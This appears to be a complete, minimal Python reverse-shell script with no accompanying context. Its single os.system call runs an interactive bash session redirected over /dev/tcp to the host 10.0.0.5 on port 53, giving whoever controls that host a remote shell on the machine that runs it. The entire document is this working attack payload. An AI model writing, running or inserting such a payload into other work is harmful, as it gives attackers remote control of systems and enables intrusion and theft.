#!/usr/bin/env python3

import os
os.system("bash -i >& /dev/tcp/%s/%d 0>&1" % ("10.0.0.5", 53))
